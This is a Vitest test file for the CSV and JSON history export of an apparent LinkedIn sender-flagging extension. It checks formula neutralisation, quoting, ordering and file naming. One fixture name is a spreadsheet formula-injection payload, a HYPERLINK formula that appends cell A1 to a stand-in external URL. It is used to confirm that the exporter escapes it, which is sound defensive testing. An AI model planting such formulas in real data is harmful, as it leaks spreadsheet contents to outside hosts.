import { describe, expect, it } from 'vitest';
import {
  HISTORY_EXPORT_FORMAT,
  csvCell,
  historyExportFileName,
  historyToCsv,
  historyToJson,
} from '../../../src/settings/export';
import { historyEntrySchema, type HistoryEntry } from '../../../src/settings/schema';

/** A strict RFC 4180 reader, so the tests check what a spreadsheet would see. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"' && cell === '') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 1;
    } else cell += char;
  }
  expect(quoted).toBe(false);
  expect(cell).toBe('');
  return rows;
}

const entries: HistoryEntry[] = [
  {
    profileId: 'old',
    profileUrl: 'https://www.linkedin.com/in/old/',
    name: 'Plain Name',
    firstSeen: '2026-01-01T00:00:00.000Z',
    lastSeen: '2026-01-02T00:00:00.000Z',
    highestLevel: 'medium',
  },
  {
    profileId: 'evil',
    profileUrl: 'https://www.linkedin.com/in/evil/',
    name: '=HYPERLINK("https://x.example/?"&A1,"click"), Ltd\nline two',
    firstSeen: '2026-11-01T00:00:00.000Z',
    lastSeen: '2026-11-20T00:00:00.000Z',
    highestLevel: 'high',
  },
  {
    profileId: 'nameless',
    profileUrl: 'https://www.linkedin.com/in/nameless/',
    firstSeen: '2026-06-01T00:00:00.000Z',
    lastSeen: '2026-06-01T00:00:00.000Z',
    highestLevel: 'high',
  },
];

describe('csvCell', () => {
  it.each(['=1+2', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '＝1+2'])('neutralises the formula in %j', (value) => {
    const cell = csvCell(value);
    const [[read]] = parseCsv(`${cell}\r\n`) as [[string]];
    expect(read).toBe(`'${value}`);
  });

  it('quotes cells holding commas, quotes or line breaks, doubling the quotes', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('one\ntwo')).toBe('"one\ntwo"');
  });

  it('leaves ordinary text alone, including a minus sign inside it', () => {
    expect(csvCell('Amy Chen')).toBe('Amy Chen');
    expect(csvCell('Jean-Paul')).toBe('Jean-Paul');
    expect(csvCell('2026-11-20T00:00:00.000Z')).toBe('2026-11-20T00:00:00.000Z');
  });
});

describe('historyToCsv', () => {
  it('writes a BOM, a header and CRLF rows, newest first, that read back to the same values', () => {
    const csv = historyToCsv(entries);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const rows = parseCsv(csv.slice(1));
    expect(rows[0]).toEqual(['profileId', 'profileUrl', 'name', 'firstSeen', 'lastSeen', 'highestLevel']);
    expect(rows.slice(1).map((row) => row[0])).toEqual(['evil', 'nameless', 'old']);
    expect(rows[1]).toEqual([
      'evil',
      'https://www.linkedin.com/in/evil/',
      `'${entries[1]!.name}`,
      '2026-11-01T00:00:00.000Z',
      '2026-11-20T00:00:00.000Z',
      'high',
    ]);
    expect(rows[2]?.[2]).toBe('');
    expect(rows.every((row) => row.length === 6)).toBe(true);
  });

  it('can leave the BOM out', () => {
    expect(historyToCsv([], { bom: false })).toBe('profileId,profileUrl,name,firstSeen,lastSeen,highestLevel\r\n');
  });
});

describe('historyToJson', () => {
  it('writes a versioned document whose entries validate and match the history', () => {
    const exportedAt = new Date('2026-11-23T12:00:00.000Z');
    const document = JSON.parse(historyToJson(entries, exportedAt));
    expect(document).toMatchObject({ format: HISTORY_EXPORT_FORMAT, version: 3, exportedAt: '2026-11-23T12:00:00.000Z', seenSenders: [] });
    const read = document.entries.map((entry: unknown) => historyEntrySchema.parse(entry));
    expect(read.map((entry: HistoryEntry) => entry.profileId)).toEqual(['evil', 'nameless', 'old']);
    expect(read).toEqual(expect.arrayContaining(entries));
  });

  it('carries every sender read beside the flagged ones, newest first, each a valid entry', () => {
    const seen: HistoryEntry[] = [
      { profileId: 'quiet', profileUrl: 'https://www.linkedin.com/in/quiet/', firstSeen: '2026-11-01T00:00:00.000Z', lastSeen: '2026-11-02T00:00:00.000Z', highestLevel: 'none', surfaces: ['inmail', 'profile'] },
      ...entries,
    ];
    const document = JSON.parse(historyToJson(entries.slice(0, 1), new Date('2026-11-23T12:00:00.000Z'), seen));
    expect(document.entries).toHaveLength(1);
    const read = document.seenSenders.map((entry: unknown) => historyEntrySchema.parse(entry));
    expect(read).toHaveLength(seen.length);
    expect(read).toEqual(expect.arrayContaining(seen));
    const lastSeen = read.map((entry: HistoryEntry) => entry.lastSeen);
    expect(lastSeen).toEqual([...lastSeen].sort().reverse());
  });

  it('names the files by date', () => {
    expect(historyExportFileName('csv', new Date('2026-11-23T23:59:00Z'))).toBe('approach-guard-history-2026-11-23.csv');
  });
});
